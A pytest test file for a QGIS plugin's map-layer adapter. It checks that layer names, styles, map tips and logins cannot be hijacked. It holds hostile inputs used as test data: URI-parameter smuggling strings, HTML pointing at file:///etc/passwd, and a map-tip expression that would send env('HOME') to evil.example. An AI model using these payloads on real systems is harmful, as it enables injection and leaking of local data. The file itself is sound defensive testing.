"""Layers on QGIS's map: what they read, what they are called, and what they never bring along."""

from __future__ import annotations

import os
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from qgis.core import (
    QgsAuthManager,
    QgsAuthMethodConfig,
    QgsDataSourceUri,
    QgsFeature,
    QgsField,
    QgsProject,
    QgsVectorLayer,
)
from qgis.PyQt.QtCore import QMetaType

from demo.service import PASSWORD, Service
from plugin.adapters.connecting import check_addresses, connect
from plugin.adapters.map_layers import (
    _first_text,
    copy_layer,
    layers_of_copy,
    read_again,
    unsaved,
    wfs_layer,
    wms_layer,
)
from plugin.adapters.working_copy import WorkingCopy
from plugin.domain.errors import NotAService, RedirectRefused, WorkingCopyProblem
from plugin.services.wfs.model import Field, LayerInfo

from .copies import BAUM, KONTAKT, URL, baum, load, village

pytestmark = pytest.mark.qgis

HOSTILE = [
    "<b>Bäume</b>",
    '<img src="file:///etc/passwd">',
    "Bäume 'und' \"Büsche\"",
    "a|layername=buergergis_meta",
    "layername=x",
    "Bäume\n& Sträucher\u202e",
    "x' url='http://evil.example/",
    "a&url=http://evil.example/&b",
]


@pytest.fixture(autouse=True)
def _empty_project() -> Iterator[None]:
    yield
    QgsProject.instance().clear()


@pytest.fixture
def shown_layer(tmp_path: Path) -> tuple[WorkingCopy, QgsVectorLayer]:
    copy = village(tmp_path, key="uuid")
    layer = copy_layer(copy.path, copy.records()[0], own=True)
    QgsProject.instance().addMapLayer(layer)
    return copy, layer


def test_a_table_of_the_own_copy_can_be_edited(shown_layer: tuple[WorkingCopy, QgsVectorLayer]) -> None:
    copy, layer = shown_layer
    assert layer.name() == "Die baum" and layer.featureCount() == 5
    assert layer.startEditing() and layer.rollBack()
    assert layers_of_copy(copy.path) == {"baum": [layer]}


def test_what_only_we_keep_account_with_is_hidden_and_the_key_is_kept(
    shown_layer: tuple[WorkingCopy, QgsVectorLayer],
) -> None:
    _, layer = shown_layer
    fields = layer.fields()
    ours = {"_id", "_fid", "fid", "uuid"}
    for name in ours:
        assert layer.editorWidgetSetup(fields.lookupField(name)).type() == "Hidden"
    hidden = {column.name for column in layer.attributeTableConfig().columns() if column.hidden and column.name}
    assert hidden == ours
    read_only = {name for name in fields.names() if layer.editFormConfig().readOnly(fields.lookupField(name))}
    assert read_only == ours
    assert layer.displayExpression() == '"art"'


def test_a_stranger_s_table_is_read_only(tmp_path: Path) -> None:
    copy = village(tmp_path)
    layer = copy_layer(copy.path, copy.records()[0], own=False)
    assert layer.readOnly() and not layer.startEditing()


def test_a_style_with_an_action_in_the_file_is_not_loaded(tmp_path: Path) -> None:
    copy = village(tmp_path)
    record = copy.records()[0]
    evil = QgsVectorLayer(f"{copy.path}|layername=baum", "x", "ogr")
    evil.setMapTipTemplate("<img src='http://evil.example/'>")
    evil.setDisplayExpression("env('HOME')")
    assert evil.saveStyleToDatabase("böse", "", True, "") == ""
    layer = copy_layer(copy.path, record, own=True)
    assert "evil.example" not in layer.mapTipTemplate()
    assert layer.actions().actions() == []
    assert "env" not in layer.displayExpression()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_layer_is_found_by_what_it_reads(tmp_path: Path, name: str) -> None:
    copy = WorkingCopy.create(tmp_path / "Kopie.gpkg", URL)
    load(copy, [(f"{name}.1", replace(baum(1)[1], layer=name))], replace(BAUM, layer=name))
    layer = copy_layer(copy.path, replace(copy.records()[0], title=name), own=True)
    QgsProject.instance().addMapLayer(layer)
    assert layer.featureCount() == 1 and "\n" not in layer.name() and "\u202e" not in layer.name()
    assert layers_of_copy(copy.path) == {name: [layer]}
    layer.setCustomProperty("buergergis/typename", "")
    table = copy.records()[0].table
    copy.path.unlink()
    assert layers_of_copy(copy.path) == {table: [layer]}, "the table is enough to find it; nobody opens the file"


def test_layers_are_not_found_by_their_names(shown_layer: tuple[WorkingCopy, QgsVectorLayer], tmp_path: Path) -> None:
    copy, layer = shown_layer
    other = tmp_path / "andere.gpkg"
    other.write_bytes(copy.path.read_bytes())
    same_name = QgsVectorLayer(f"{other}|layername=baum", layer.name(), "ogr")
    same_name.setCustomProperty("buergergis/typename", "baum")
    memory = QgsVectorLayer("Point?crs=EPSG:25833", layer.name(), "memory")
    QgsProject.instance().addMapLayers([same_name, memory])
    layer.setName("ganz anders")
    assert layers_of_copy(copy.path) == {"baum": [layer]}


def test_the_disk_is_asked_once_for_a_path(
    shown_layer: tuple[WorkingCopy, QgsVectorLayer], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    copy, layer = shown_layer
    link = tmp_path / "Verknüpfung.gpkg"
    link.symlink_to(copy.path)
    neighbours = tmp_path / "anderswo"
    neighbours.mkdir()
    elsewhere = village(neighbours)
    QgsProject.instance().addMapLayer(copy_layer(elsewhere.path, elsewhere.records()[0], own=True))
    asked: list[str] = []
    really = os.path.realpath
    monkeypatch.setattr(os.path, "realpath", lambda path: asked.append(str(path)) or really(path))
    for _ in range(3):
        assert layers_of_copy(copy.path) == {"baum": [layer]} == layers_of_copy(link)
    assert sorted(asked) == sorted({str(copy.path), str(elsewhere.path), str(link)})


@pytest.mark.parametrize("folder", ["Eigene Dateien & Bäume", "a'b\"c", "a#b?c&d", "layername=x"])
def test_folders_as_people_name_them(tmp_path: Path, folder: str) -> None:
    (tmp_path / folder).mkdir()
    copy = village(tmp_path / folder)
    layer = copy_layer(copy.path, copy.records()[0], own=True)
    QgsProject.instance().addMapLayer(layer)
    assert layer.featureCount() == 5 and layers_of_copy(copy.path) == {"baum": [layer]}


@pytest.mark.parametrize("folder", ["a|layername=b", "100%20"])
def test_a_folder_that_qgis_cannot_read_is_said(tmp_path: Path, folder: str) -> None:
    (tmp_path / folder).mkdir()
    copy = village(tmp_path / folder)
    with pytest.raises(WorkingCopyProblem) as problem:
        copy_layer(copy.path, copy.records()[0], own=True)
    assert "%" in problem.value.advice


def test_a_table_without_geometry(tmp_path: Path) -> None:
    copy = WorkingCopy.create(tmp_path / "Kopie.gpkg", URL)
    load(copy, [], KONTAKT)
    layer = copy_layer(copy.path, copy.records()[0], own=True)
    assert layer.isValid() and not layer.isSpatial() and layer.displayExpression() == '"name"'


def test_edits_that_are_not_saved_are_counted(shown_layer: tuple[WorkingCopy, QgsVectorLayer]) -> None:
    copy, layer = shown_layer
    assert unsaved(copy.path) == {}
    layer.startEditing()
    assert unsaved(copy.path) == {}, "an open edit session alone is no edit"
    features = list(layer.getFeatures())
    art = layer.fields().lookupField("art")
    layer.changeAttributeValue(features[0].id(), art, "Esche")
    layer.changeAttributeValue(features[0].id(), art, "Ulme")
    layer.deleteFeature(features[1].id())
    layer.addFeature(QgsFeature(layer.fields()))
    assert unsaved(copy.path) == {"baum": 3}
    layer.rollBack()
    assert unsaved(copy.path) == {}


def test_layers_see_what_a_refresh_brought(shown_layer: tuple[WorkingCopy, QgsVectorLayer]) -> None:
    copy, layer = shown_layer
    load(copy, [baum(number) for number in range(1, 8)], key="uuid")
    wider = replace(BAUM, fields=(*BAUM.fields, Field("pate", "text")))
    load(copy, [baum(number) for number in range(1, 9)], wider, key="uuid")
    read_again(copy.path)
    assert len(list(layer.getFeatures())) == 8 and "pate" in layer.fields().names()


# layers of a service


def test_features_of_the_service_can_be_looked_at_and_not_edited(service: Service) -> None:
    info = connect(service.url).capabilities.layers["sitzbank"]
    layer = wfs_layer(service.url, info)
    assert layer.name() == info.title and layer.crs().authid() == info.crs
    assert layer.featureCount() > 0
    assert layer.readOnly() and not layer.startEditing()
    assert layer.actions().actions() == []
    inside = next(layer.getFeatures()).geometry().asPoint()
    assert 200_000 < inside.x() < 800_000 and 5_000_000 < inside.y() < 6_500_000, "x before y"


def test_a_map_of_the_service_is_drawn_and_answers_in_text(service: Service) -> None:
    layer = wms_layer(service.url, "sitzbank", "<b>Bänke</b>", "EPSG:25833")
    assert layer.name() == "<b>Bänke</b>" and layer.crs().authid() == "EPSG:25833"
    assert layer.customProperty("identify/format") == "Text"


def test_a_login_is_in_no_layer(service: Service, auth_manager: QgsAuthManager) -> None:
    """QGIS would take it along wherever the service sends it: to other hosts, and through redirects."""
    config = QgsAuthMethodConfig("Basic")
    config.setName("beitrag-a")
    config.setConfigMap({"username": "beitrag-a", "password": PASSWORD})
    assert auth_manager.storeAuthenticationConfig(config, True)[0]
    info = connect(service.url, config.id()).capabilities.layers["sitzbank"]
    for layer in (wfs_layer(service.url, info), wms_layer(service.url, "sitzbank", "x", info.crs)):
        assert "authcfg" not in layer.source() and config.id() not in layer.source()


def test_a_field_whose_name_ends_an_expression_is_in_no_tip() -> None:
    name = "a%]<img src='http://evil.example/?[% env('HOME') %]'>[% 'x"
    layer = QgsVectorLayer("Point?crs=EPSG:25833", "böse", "memory")
    layer.dataProvider().addAttributes([QgsField(name, QMetaType.Type.QString)])
    layer.updateFields()
    assert layer.fields().names() == [name]
    assert "evil" not in _first_text(layer)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_stays_a_name(service: Service, name: str) -> None:
    info = LayerInfo(name, name, "", "EPSG:25833", None, frozenset({"query"}))
    for make in (lambda: wfs_layer(service.url, info), lambda: wms_layer(service.url, name, name, info.crs)):
        with pytest.raises(NotAService):
            make()


def test_a_service_that_is_gone_is_said() -> None:
    info = LayerInfo("baum", "Bäume", "", "EPSG:25833", None, frozenset({"query"}))
    with pytest.raises(NotAService, match="Bäume"):
        wfs_layer("http://127.0.0.1:9/ows/", info)


def test_a_typename_with_quotes_reaches_the_service_as_it_is() -> None:
    uri = QgsDataSourceUri()
    uri.setParam("typename", "x' url='http://evil.example/")
    uri.setParam("url", "http://127.0.0.1:9/")
    again = QgsDataSourceUri(uri.uri(False))
    assert again.param("url") == "http://127.0.0.1:9/" and again.param("typename") == "x' url='http://evil.example/"


def test_a_login_goes_nowhere_else_whatever_the_description_says(service: Service) -> None:
    connection = connect(service.url)
    check_addresses(connection)
    for address in (
        "http://evil.example/",
        "https://127.0.0.1/",
        "http://127.0.0.1:abc/",
        "//evil.example/",
        "file:///etc/passwd",
    ):
        named = replace(connection.capabilities, addresses=frozenset({service.url, address}))
        with pytest.raises(RedirectRefused, match="tells QGIS to ask at"):
            check_addresses(replace(connection, capabilities=named))
    check_addresses(replace(connection, capabilities=replace(connection.capabilities, addresses=frozenset({"?"}))))
